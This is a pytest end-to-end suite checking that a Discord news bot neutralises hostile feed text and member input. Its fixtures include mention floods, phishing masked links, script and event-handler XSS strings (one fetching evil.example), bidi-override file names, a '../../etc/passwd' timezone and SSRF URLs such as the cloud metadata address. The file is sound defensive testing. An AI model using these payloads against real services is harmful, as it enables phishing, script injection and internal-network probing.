"""Hostile feeds and hostile members, end to end: the real `python bot.py run` against the fake
Discord and loopback feed servers. What reached "Discord" is what is asserted; the fake checks
every message against Discord's limits, so `fake.rejected` must stay empty."""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from e2e.fakediscord import MEMBER_PERMISSIONS, USE_APPLICATION_COMMANDS, InvalidOptionError
from e2e.newsroom import FIRST_NEWS, LATER_NEWS, Newsroom, Story, answered, open_newsroom, rss

ALERT_CAP = 5
PINGS = "@everyone @here <@123> <@!124> <@&456> <#789>"
HOSTILE_TITLE = f"{PINGS} [Click](https://phish.example/t) **refugees** \u202egnp.exe\u202c " + "A" * 100_000
HOSTILE_TEXT = (f"<p>{PINGS} <a href=\"https://evil.example/hidden\" onclick=\"steal()\">[read](https://"
                "phish.example/p)</a> refugees</p><script>alert('@everyone')</script>"
                "<img src=x onerror=\"alert(1)\"><p>UNHCR said 700,000 refugees have fled Ukraine, "
                "ref\u200bugees at the border.</p><p>" + "W" * 100_000 + "</p>")
HOSTILE_NEWS = [Story("hostile-1", HOSTILE_TITLE, HOSTILE_TEXT, 60)]
BREAKING = Story("hostile-2", f"{PINGS} Refugees \u2066mass\u2069 at [border](https://phish.example/b)",
                 f"<p>{PINGS} One million refugees have fled Ukraine, UNHCR said.</p>"
                 "<script>fetch('https://evil.example/x')</script>", 1)
_PING = re.compile(r"@(everyone|here)|<(@[!&]?|#)")
_MASKED_LINK = re.compile(r"(?<!\\)\[((?:\\.|[^\]\\])*)\]\((\S*?)\)")


@pytest.fixture
async def room(tmp_path: Path) -> AsyncIterator[Newsroom]:
    async with open_newsroom(tmp_path, FIRST_NEWS + HOSTILE_NEWS,
                             extra=f"alerts_per_member = {ALERT_CAP}") as newsroom:
        yield newsroom


def rendered_text(message: dict[str, Any]) -> list[str]:
    """The parts of a message where Discord renders markdown and mentions, code spans removed."""
    parts = [message.get("content") or ""]
    for embed in message.get("embeds") or []:
        parts += [embed.get("title") or "", embed.get("description") or ""]
        parts += [f.get(k) or "" for f in embed.get("fields") or [] for k in ("name", "value")]
    return [re.sub(r"(?<!\\)`[^`]*`", "", p) for p in parts if p]


def assert_inert(message: dict[str, Any], *, member: int | None = None, echoed: bool = False) -> None:
    """Nothing in the message can ping anyone but `member`, and no link hides its address.
    `echoed`: an error that quotes the member's own option value back to them (ephemeral); the
    client's default allowed mentions (none) keep it from pinging, but the value is not escaped."""
    mentions = message.get("allowed_mentions") or {}
    assert mentions.get("parse") == [], mentions
    assert [int(u) for u in mentions.get("users") or []] == ([member] if member else []), mentions
    assert not mentions.get("roles")
    if echoed:
        return
    for text in rendered_text(message):
        own = text.replace(f"<@{member}>", "") if member else text
        assert _PING.search(own) is None, own[:300]
        assert "evil.example" not in text and "onclick" not in text and "alert(" not in text
        for _, target in _MASKED_LINK.findall(text):
            assert target.startswith("https://wire.example/"), target
        assert not set(text) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    for embed in message.get("embeds") or []:
        assert embed.get("url") in (None, *(f"https://wire.example/{s.key}" for s in
                                            FIRST_NEWS + LATER_NEWS + HOSTILE_NEWS + [BREAKING]))


async def test_hostile_feed_text_reaches_discord_inert_in_digests_and_alerts(room: Newsroom) -> None:
    await room.start_bot()
    await room.wait_enriched(4, timeout=60)
    fake = room.fake
    digest = await answered(fake, "digest now", {"hours": 24})
    assert "4 stories from 1 source" in digest.text()
    for message in digest.messages:
        assert_inert(message)
    assert "@\u200beveryone" in digest.text()  # shown, inert
    assert "\\[Click\\](https://phish.example/t)" in digest.text()  # shown as the characters it is
    assert "gnp.exe" in digest.text() and "A" * 201 not in digest.text()  # the huge word is cut
    general = fake.guild.channels["general"]
    await answered(fake, "alerts add", {"query": "refugees", "deliver": "channel"}, user=fake.member,
                   channel=general)
    await answered(fake, "alerts add", {"query": "million"}, user=fake.admin)
    await room.after_two_polls()
    room.publish(FIRST_NEWS + HOSTILE_NEWS + [BREAKING])
    [ping] = await fake.wait_for_messages(general, 1, timeout=60)
    assert ping["content"].startswith(f"<@{fake.member}>")
    assert_inert(ping, member=fake.member)
    [dm] = await fake.wait_for_dms(fake.admin, 1, timeout=60)
    assert_inert(dm)
    assert "mass" in dm["embeds"][0]["title"]
    ask = await answered(fake, "ask", {"question": "How many refugees have fled Ukraine?"})
    for message in ask.messages:
        assert_inert(message)


async def test_option_values_at_and_beyond_every_bound(room: Newsroom) -> None:
    await room.start_bot()
    fake = room.fake
    for command, name, low, high in (("digest now", "hours", 1, 168), ("alerts mute", "hours", 1, 168)):
        for outside in (low - 1, high + 1, -(2**53), 2**53):
            with pytest.raises(InvalidOptionError):  # Discord itself refuses these
                await fake.invoke(command, {name: outside})
        for inside in (low, high):
            record = await answered(fake, command, {name: inside})
            assert "went wrong" not in record.text(), (command, inside)
    lengths = [("ask", "question", 300), ("who", "name", 100), ("figures", "topic", 100),
               ("alerts add", "query", 200), ("alerts remove", "alert", 200)]
    for command, name, most in lengths:
        with pytest.raises(InvalidOptionError):
            await fake.invoke(command, {name: "x" * (most + 1)})
        with pytest.raises(InvalidOptionError):
            await fake.invoke(command, {name: ""})
        hostile = (f"{PINGS} [x](https://phish.example) " + "refugees " * 40)[:most].strip()
        record = await answered(fake, command, {name: hostile})
        assert "went wrong" not in record.text().lower(), (command, record.text())
        for message in record.messages:
            assert_inert(message)
    news = fake.guild.channels["news"]
    for options in ({"time": "08:000"}, {"time": ""}, {"time": "08:00", "timezone": "Z" * 65}):
        with pytest.raises(InvalidOptionError):
            await fake.invoke("digest schedule", {"channel": news, **options}, user=fake.admin)
    for options in ({"time": "99:99"}, {"time": "-1:00"},
                    *({"time": "08:00", "timezone": zone} for zone in
                      ("../../etc/passwd", "/etc/localtime", "Mars/Olympus_Mons", "@everyone <@123>"))):
        refused = await answered(fake, "digest schedule", {"channel": news, **options}, user=fake.admin)
        assert refused.ephemeral and "went wrong" not in refused.text(), (options, refused.text())
        for message in refused.messages:
            assert_inert(message, echoed=True)
    for time in ("00:00", "23:59"):
        scheduled = await answered(fake, "digest schedule", {"channel": news, "time": time}, user=fake.admin)
        assert f"at {time} (UTC)" in scheduled.text()
    for url in ("http://x.example/" + "a" * 1990, ):
        with pytest.raises(InvalidOptionError):
            await fake.invoke("feeds add", {"url": url}, user=fake.admin)
    with pytest.raises(InvalidOptionError):
        await fake.invoke("feeds add", {"url": room.feeds.url("/wire.xml"), "name": "n" * 101},
                          user=fake.admin)


async def test_a_member_may_add_alerts_up_to_the_cap_and_is_told_beyond_it(room: Newsroom) -> None:
    await room.start_bot()
    fake = room.fake
    for n in range(ALERT_CAP):
        added = await answered(fake, "alerts add", {"query": f"topic{n} refugees"}, user=fake.member)
        assert added.ephemeral and "Alert added" in added.text()
    refused = await answered(fake, "alerts add", {"query": "one too many"}, user=fake.member)
    assert refused.ephemeral and f"You already have {ALERT_CAP} alerts" in refused.text()
    listing = await answered(fake, "alerts list", user=fake.member)
    assert listing.text().count("refugees") == ALERT_CAP and "one too many" not in listing.text()
    other = await answered(fake, "alerts add", {"query": "refugees"}, user=fake.admin)
    assert "Alert added" in other.text()  # the cap is per member
    removed = await answered(fake, "alerts remove", {"alert": "topic0 refugees"}, user=fake.member)
    assert "Removed" in removed.text()
    again = await answered(fake, "alerts add", {"query": "one more"}, user=fake.member)
    assert "Alert added" in again.text()


async def test_admin_commands_are_refused_at_run_time_whatever_the_member_holds(room: Newsroom) -> None:
    await room.start_bot()
    fake = room.fake
    room.feeds.serve("/second.xml", rss("Second", LATER_NEWS))
    for permissions in (MEMBER_PERMISSIONS, USE_APPLICATION_COMMANDS):
        record = await fake.invoke("feeds add", {"url": room.feeds.url("/second.xml")}, user=fake.member,
                                   permissions=permissions, enforce_default_permissions=False)
        await record.wait_done(timeout=10)
        assert record.ephemeral and "Manage Server" in record.text()
    assert room.feeds.hits("/second.xml") == 0
    assert room.query("SELECT count(*) FROM feeds") == [(1,)]


async def feed_add(room: Newsroom, url: str) -> Any:
    return await answered(room.fake, "feeds add", {"url": url}, within=40, user=room.fake.admin)


def feed_urls(room: Newsroom) -> list[str]:
    return [str(url) for (url,) in room.query("SELECT url FROM feeds")]


async def test_feed_urls_with_credentials_odd_ports_ipv6_and_idn(room: Newsroom) -> None:
    await room.start_bot()
    fake = room.fake
    room.feeds.serve("/second.xml", rss("Second", LATER_NEWS))
    port = room.feeds.port
    secret = await feed_add(room, f"http://newsdesk:s3cr3t-pw@127.0.0.1:{port}/second.xml")
    assert "user name or password" in secret.text() and "s3cr3t" not in secret.text()
    assert room.feeds.hits("/second.xml") == 0 and not any("s3cr3t" in u for u in feed_urls(room))
    assert "s3cr3t" not in room.log()
    for bad_port in ("0", "99999", "65536", "-1", "http"):
        refused = await feed_add(room, f"http://127.0.0.1:{bad_port}/second.xml")
        assert "port" in refused.text() or "not a web address" in refused.text(), refused.text()
    closed = await feed_add(room, "http://127.0.0.1:1/feed.xml")
    assert "could not read a feed" in closed.text()
    idn = await feed_add(room, "http://bücher.example/feed")
    assert "could not read a feed at http://bücher.example/feed" in idn.text()
    assert "went wrong" not in idn.text()
    assert len(feed_urls(room)) == 1  # nothing half-added
    async with ipv6_server(rss("Six", LATER_NEWS)) as six_port:
        six = await feed_add(room, f"http://[::1]:{six_port}/six.xml")
        assert "Now following **Six**" in six.text() and "2 items" in six.text()
    assert f"http://[::1]:{six_port}/six.xml" in feed_urls(room)
    odd = await feed_add(room, f"HTTP://127.0.0.1:{port:05d}/second.xml")
    assert "Now following **Second**" in odd.text()
    listing = await answered(fake, "feeds list")
    assert "Six" in listing.text() and "Second" in listing.text()


async def test_private_addresses_are_refused_with_a_clear_message_unless_allowed(room: Newsroom) -> None:
    room.config.write_text(room.config.read_text().replace("allow_private_addresses = true",
                                                           "allow_private_addresses = false"))
    await room.start_bot()
    room.feeds.serve("/second.xml", rss("Second", LATER_NEWS))
    for url in (room.feeds.url("/second.xml"), f"http://[::1]:{room.feeds.port}/second.xml",
                f"http://localhost:{room.feeds.port}/second.xml", "http://10.0.0.1/feed",
                "http://[::ffff:127.0.0.1]/feed", "http://169.254.169.254/latest/meta-data"):
        refused = await feed_add(room, url)
        assert "only reads feeds on the public internet" in refused.text(), (url, refused.text())
    assert room.feeds.hits("/second.xml") == 0
    assert len(feed_urls(room)) == 1  # only the operator's feed


@asynccontextmanager
async def ipv6_server(body: str) -> AsyncIterator[int]:
    """A feed at /six.xml on [::1], yielding its port (the FeedServer listens on 127.0.0.1 only)."""
    async def handler(_: web.Request) -> web.Response:
        return web.Response(text=body, content_type="application/rss+xml")

    app = web.Application()
    app.router.add_get("/six.xml", handler)
    runner = web.AppRunner(app, handle_signals=False)
    await runner.setup()
    try:
        site = web.TCPSite(runner, "::1", 0)
        await site.start()
        server = site._server
        assert isinstance(server, asyncio.base_events.Server)
        yield int(server.sockets[0].getsockname()[1])
    finally:
        await runner.cleanup()


async def test_a_burst_of_alert_adds_never_passes_the_cap(room: Newsroom) -> None:
    """A member firing many /alerts add at once: exactly the cap is stored, the rest are told."""
    await room.start_bot()
    fake = room.fake
    records = [await fake.invoke("alerts add", {"query": f"burst{n}"}, user=fake.member)
               for n in range(3 * ALERT_CAP)]
    await asyncio.gather(*(r.wait_done(timeout=20) for r in records))
    texts = [r.text() for r in records]
    assert sum("Alert added" in t for t in texts) == ALERT_CAP, texts
    assert sum(f"You already have {ALERT_CAP} alerts" in t for t in texts) == 2 * ALERT_CAP, texts
    assert room.query("SELECT count(*) FROM subscriptions WHERE member_id = ?", fake.member) == [(ALERT_CAP,)]
